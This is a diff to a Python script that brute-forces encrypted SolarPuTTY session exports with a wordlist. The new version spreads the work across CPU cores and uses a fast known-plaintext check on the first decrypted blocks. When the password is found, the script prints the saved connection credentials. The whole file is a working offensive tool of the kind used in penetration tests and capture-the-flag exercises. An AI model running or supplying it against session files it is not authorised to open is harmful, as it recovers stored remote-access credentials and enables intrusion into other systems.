@@ -1,51 +1,147 @@
+import argparse
 import base64
-import sys
+import hashlib
+import mmap
+import multiprocessing
+import os
+import time
 from Crypto.Cipher import DES3
-from Crypto.Protocol.KDF import PBKDF2
 
-def decrypt(passphrase, ciphertext):
-    data = ''
-    try:
-        # Decode the base64 encoded ciphertext
-        array = base64.b64decode(ciphertext)
-        salt = array[:24]
-        iv = array[24:32]
-        encrypted_data = array[48:]
+CHUNK_SIZE = 1 << 14  # wordlist bytes per task, a few thousand candidates
+PRINTABLE = bytes(range(0x20, 0x7F)) + b'\t\r\n'
+WHITESPACE = b' \t\r\n'
+BOM = b'\xef\xbb\xbf'
 
-        # Derive the key using PBKDF2
-        key = PBKDF2(passphrase, salt, dkLen=24, count=1000)
+def parse_session(ciphertext):
+    """(salt, iv, encrypted data) from the base64 encoded session export"""
+    array = base64.b64decode(ciphertext)
+    return array[:24], array[24:32], array[48:]
 
-        # Create the Triple DES cipher in CBC mode
-        cipher = DES3.new(key, DES3.MODE_CBC, iv)
+def session_key(passphrase, salt):
+    # PBKDF2-HMAC-SHA1, str passwords as latin-1 like pycryptodome's PBKDF2
+    if isinstance(passphrase, str):
+        passphrase = passphrase.encode('latin-1')
+    return hashlib.pbkdf2_hmac('sha1', passphrase, salt, 1000, 24)
 
-        # Decrypt the data
-        decrypted_data = cipher.decrypt(encrypted_data)
+def plausible_key(key, iv, encrypted_data):
+    """Cheap oracle: do the first two blocks decrypt to the start of a JSON export?
+
+    Allows a UTF-8 BOM and whitespace before the '{' and between it and the first key.
+    """
+    try:
+        head = DES3.new(key, DES3.MODE_CBC, iv).decrypt(encrypted_data[:16])
+    except ValueError:  # key degenerates to single DES, can't be the right one
+        return False
+    head = head.removeprefix(BOM)
+    if head.translate(None, PRINTABLE):
+        return False
+    head = head.lstrip(WHITESPACE)
+    if not head:
+        return True
+    rest = head[1:].lstrip(WHITESPACE)
+    return head[:1] == b'{' and rest[:1] in (b'', b'"')
 
-        # Remove padding (PKCS7 padding)
-        padding_len = decrypted_data[-1]
-        decrypted_data = decrypted_data[:-padding_len]
+def decrypt_data(key, iv, encrypted_data):
+    # Create the Triple DES cipher in CBC mode
+    cipher = DES3.new(key, DES3.MODE_CBC, iv)
 
-        data = ''.join(chr(c) for c in decrypted_data if chr(c).isascii())
+    # Decrypt the data
+    decrypted_data = cipher.decrypt(encrypted_data)
 
+    # Remove padding (PKCS7 padding)
+    padding_len = decrypted_data[-1]
+    decrypted_data = decrypted_data[:-padding_len]
+
+    return ''.join(chr(c) for c in decrypted_data if chr(c).isascii())
+
+def decrypt(passphrase, ciphertext):
+    data = ''
+    try:
+        salt, iv, encrypted_data = parse_session(ciphertext)
+        data = decrypt_data(session_key(passphrase, salt), iv, encrypted_data)
     except Exception as e:
         print(f'Error: {e}')
 
     return data
 
-if len(sys.argv) < 3:
-    print(f'Usage: {sys.argv[0]} putty_session.dat wordlist.txt')
-    exit(1)
+def chunk_ranges(wordlist, size, chunk_size=CHUNK_SIZE):
+    """(start, end) byte ranges covering the wordlist, each ending just after a newline"""
+    start = 0
+    while start < size:
+        end = wordlist.find(b'\n', min(start + chunk_size, size) - 1)
+        end = size if end == -1 else end + 1
+        yield start, end
+        start = end
+
+# Per-worker state, set once by init_worker
+_session = _wordlist = _stop = None
 
-with open(sys.argv[1]) as f:
-    cipher = f.read()
+def init_worker(session, wordlist_path, stop):
+    global _session, _wordlist, _stop
+    _session, _stop = session, stop
+    with open(wordlist_path, 'rb') as f:
+        _wordlist = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)
 
-with open(sys.argv[2]) as passwords:
-    for i, password in enumerate(passwords):
-        password = password.strip()
-        decrypted = decrypt(password, cipher)
-        print(f'[{i}] {password=}', end='\r')
+def crack_range(bounds):
+    """Try every password in one byte range of the wordlist. Returns (tried, password, decrypted)"""
+    start, end = bounds
+    salt, iv, encrypted_data = _session
+    tried = 0
+    for line in _wordlist[start:end].splitlines():
+        if _stop.is_set():
+            break
+        password = line.strip()
+        tried += 1
+        key = session_key(password, salt)
+        if not plausible_key(key, iv, encrypted_data):
+            continue
+        # only a likely key pays for the full decrypt
+        decrypted = decrypt_data(key, iv, encrypted_data)
         if 'Credentials' in decrypted:
-            print(f'\r[{i}] {password=} {" " * 10}')
-            print()
-            print(decrypted)
-            break
\ No newline at end of file
+            _stop.set()
+            return tried, password, decrypted
+    return tried, None, None
+
+def crack(session_path, wordlist_path, jobs):
+    with open(session_path) as f:
+        session = parse_session(f.read())
+
+    with open(wordlist_path, 'rb') as f:
+        size = os.fstat(f.fileno()).st_size
+        if size == 0:
+            return None
+        with mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ) as wordlist:
+            ranges = list(chunk_ranges(wordlist, size))
+
+    stop = multiprocessing.Event()
+    tried = 0
+    found = None
+    start = time.perf_counter()
+    with multiprocessing.Pool(jobs, init_worker, (session, wordlist_path, stop)) as pool:
+        # after a hit keep draining: the other workers see stop, return what
+        # they tried so far and the queued chunks come back empty
+        for count, password, decrypted in pool.imap_unordered(crack_range, ranges):
+            tried += count
+            if password is not None and found is None:
+                found = password, decrypted
+            if found is None:
+                print(f'[{tried}] {tried / (time.perf_counter() - start):,.0f} candidates/s', end='\r')
+    rate = tried / (time.perf_counter() - start)
+    if found is None:
+        print(f'\r[{tried}] No password found ({rate:,.0f} candidates/s)')
+        return None
+
+    password, decrypted = found
+    print(f'\r[{tried}] password={password.decode("utf-8", "backslashreplace")!r} ({rate:,.0f} candidates/s){" " * 10}')
+    print()
+    print(decrypted)
+    return password
+
+if __name__ == '__main__':
+    parser = argparse.ArgumentParser(description="Decrypt a SolarPuTTY sessions export by trying a wordlist")
+    parser.add_argument('session', help="SolarPuTTY session file (putty_session.dat)")
+    parser.add_argument('wordlist', help="Wordlist, one password per line")
+    parser.add_argument('-j', '--jobs', type=int, default=os.cpu_count(), help="Worker processes (default: all cores)")
+    args = parser.parse_args()
+
+    crack(args.session, args.wordlist, args.jobs)